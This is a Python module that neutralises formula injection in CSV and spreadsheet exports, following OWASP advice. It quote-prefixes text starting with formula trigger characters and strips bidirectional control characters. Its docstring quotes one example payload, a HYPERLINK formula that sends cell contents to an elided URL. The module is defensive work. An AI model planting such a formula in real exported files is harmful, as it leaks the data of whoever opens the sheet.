"""Neutralising formula injection in exported files (CSV and spreadsheets).

Names, comments and headings typed by users end up in the exports organisers open in Excel or
LibreOffice. A cell whose text begins with ``=`` — or with ``+``, ``-`` or ``@``, which
spreadsheets also read as the start of a formula — runs as a formula when the file is opened:
``=HYPERLINK("http://…?"&A1, "klik")`` can send the sheet's contents away. OWASP's CSV
injection guidance is to prefix such text with a single quote, which makes the spreadsheet
show it as text; tab (0x09) and carriage return (0x0D) are on OWASP's list too, because some
spreadsheets skip them before looking for a formula.

Words used here:

- *text*: a ``str`` value (user-supplied text in an export);
- *trigger*: a first character that makes a spreadsheet read text as a formula
  (:data:`TRIGGERS`);
- *bidi control*: a character that reorders how text is shown (:data:`BIDI_CONTROLS`),
  removed from every text neutralised here and from every text the readers take in;
- *neutralise*: remove bidi controls, and prefix text that starts with a trigger with ``'``.
  Real numbers (``int``, ``float``, ``Decimal``, numpy numbers) are values, not text, and
  stay numbers: ``-5`` the number is kept, ``"-5"`` the text becomes ``"'-5"``. ``None`` and
  other non-text values (dates) are left alone.

The quote is visible if the file is read back as plain text; that is the price OWASP accepts
for a rule that holds in every spreadsheet program. An xlsx writer may, in addition, store
such cells explicitly as strings, but the prefix is what keeps a CSV safe.
"""

from __future__ import annotations

import numbers
from typing import TypeVar

import pandas as pd

BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
"""Bidirectional control characters (embeddings, overrides, isolates, marks): never meant in
a name or a heading, they make text show in another order than it is stored (``\u202e``
turns ``Budi`` into ``iduB`` on screen) and are removed from every text read or written."""
_BIDI = dict.fromkeys(map(ord, BIDI_CONTROLS), None)
_BIDI_PATTERN = "[" + BIDI_CONTROLS + "]"
TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters OWASP lists as starting a formula in some spreadsheet program."""
PREFIX = "'"

T = TypeVar("T")


def strip_bidi(text: str) -> str:
    """``text`` without bidirectional control characters (:data:`BIDI_CONTROLS`)."""
    return text.translate(_BIDI)


def needs_neutralising(value: object) -> bool:
    """True for text that a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS)


def neutralise(value: T) -> T | str:
    """``value`` safe to write into a cell: text starting with a trigger gets a ``'`` prefix.

    Numbers (``bool`` included), ``None`` and any other non-text value come back unchanged.
    """
    if isinstance(value, numbers.Number) or value is None:
        return value
    if isinstance(value, str):
        value = strip_bidi(value)  # type: ignore[assignment]
    if needs_neutralising(value):
        return PREFIX + str(value)
    return value


def _text_like(series: pd.Series) -> bool:
    dtype = series.dtype
    return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)


def _neutralise_series(series: pd.Series) -> pd.Series:
    if isinstance(series.dtype, pd.CategoricalDtype):
        categories = series.cat.categories
        if not _text_like(categories.to_series()):
            return series
        return series.cat.rename_categories([neutralise(c) for c in categories])
    if not _text_like(series):
        return series
    bidi = series.str.contains(_BIDI_PATTERN, regex=True, na=False).astype(bool)
    if bidi.any():
        series = series.copy()
        series[bidi] = series[bidi].astype(str).map(strip_bidi)
    # str.startswith gives NA (here False) for non-text values in an object column, so
    # numbers mixed into text columns are kept as they are
    mask = series.str.startswith(TRIGGERS, na=False).astype(bool)
    if not mask.any():
        return series
    result = series.copy()
    result[mask] = PREFIX + series[mask].astype(str)
    return result


def neutralise_frame(frame: pd.DataFrame, *, header: bool = True) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised (and the column names, if
    ``header``); numeric, boolean and date columns are untouched, whole columns at a time."""
    result = frame.copy()
    for position in range(result.shape[1]):
        column = result.iloc[:, position]
        neutral = _neutralise_series(column)
        if neutral is not column:
            result.isetitem(position, neutral)
    if header:
        result.columns = pd.Index([neutralise(c) for c in result.columns])
    return result
